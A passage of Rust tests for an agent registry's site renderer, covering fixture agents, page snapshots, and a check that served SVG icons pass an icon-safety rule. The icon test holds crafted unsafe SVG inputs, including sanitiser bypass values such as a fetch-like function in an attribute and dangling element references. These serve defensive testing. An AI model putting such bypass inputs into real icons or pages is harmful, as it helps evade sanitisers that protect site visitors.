    let mut beta = simple_agent("beta", "beta");
    beta.agent.insert(
        "auth".into(),
        json!([{"type": "env_var", "name": "API key", "vars": ["BETA_KEY"]}, {"type": "agent"}]),
    );
    beta.agent.insert("bundled".into(), json!(true));
    let mut preview = beta.agent.clone();
    preview.insert("version".into(), json!("1.1.0-preview.1"));
    preview.insert("distribution".into(), json!({"npx": {"package": "beta@1.1.0-preview.1", "args": ["--acp"], "env": {"BETA_CHANNEL": "preview"}}}));
    beta.preview = Some(preview);

    let mut gamma = simple_agent("gamma", "Gamma");
    gamma.icons.clear();
    gamma.agent.insert(
        "distribution".into(),
        json!({"uvx": {"package": "gamma-acp==0.3.0"}}),
    );
    gamma.quarantine = Some("Launch fails with the published package.".into());
    vec![gamma, beta, alpha]
}

#[test]
fn snapshots_of_a_small_fixture() {
    let files = site::render(&fixture(), &[], &options()).unwrap();
    for (path, html) in html_files(&files) {
        assert_page_invariants(&path, &html);
    }
    insta::assert_snapshot!("site_index", text(&files, "index.html"));
    insta::assert_snapshot!("site_agent_alpha", text(&files, "agents/alpha/index.html"));
    insta::assert_snapshot!("site_agent_beta", text(&files, "agents/beta/index.html"));
    insta::assert_snapshot!("site_search_index", text(&files, "assets/search-index.js"));
    insta::assert_snapshot!("site_icons_css", text(&files, "assets/icons/1.css"));
    assert_eq!(
        files.keys().cloned().collect::<Vec<_>>(),
        [
            "agents/alpha/index.html",
            "agents/beta/index.html",
            "agents/gamma/index.html",
            "assets/favicon.svg",
            "assets/icons/1.css",
            "assets/search-index.js",
            "assets/site.css",
            "assets/site.js",
            "index.html",
        ]
    );
}

#[test]
fn site_icons_pass_the_icon_safety_rule_whatever_the_input() {
    // Every icon-unsafe case (the bypasses included), the hostile entry, and values the old
    // sanitiser let through: a fetch function in a plain attribute, references to elements
    // it drops.
    let mut inputs = vec![
        hostile_agent().icons["icon.svg"].clone(),
        br##"<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><title id="t">x</title><filter id="f"/><path d="M0 0h16" transform="image(x)" stroke="currentColor" filter="url(#f)"/><use href="#t"/><rect fill="url(#f)" mask="url(#t)"/></svg>"##.to_vec(),
    ];
    let cases = repo().join("tests/rules/icon-unsafe");
    for case in std::fs::read_dir(&cases).unwrap() {
        let icon = case.unwrap().path().join("example-agent/icon.svg");
        inputs.push(std::fs::read(&icon).unwrap());
    }
    let agents: Vec<SiteAgent> = inputs
        .into_iter()
        .enumerate()
        .map(|(i, svg)| {
            let mut agent = simple_agent(&format!("icon-{i}"), &format!("Icon {i}"));
            agent.icons.insert("icon.svg".into(), svg);
            agent
        })
        .collect();
    let files = site::render(&agents, &[], &options()).unwrap();
    let mut served = 0;
    for (sheet, mask) in all_icon_masks(&files) {
        let path = format!("{sheet}: {}", mask.id);
        let svg = mask.svg;
        let findings = acp_registry::check_icon(&path, &svg);
        let unsafe_: Vec<_> = findings
            .iter()
            .filter(|d| matches!(d.code, Code::IconUnsafe | Code::IconXml | Code::IconRoot))
            .collect();
        assert!(unsafe_.is_empty(), "{path}: {unsafe_:?}\n{svg}");
        served += 1;
    }
    assert!(served >= agents.len() - 1, "only {served} icons served");
}
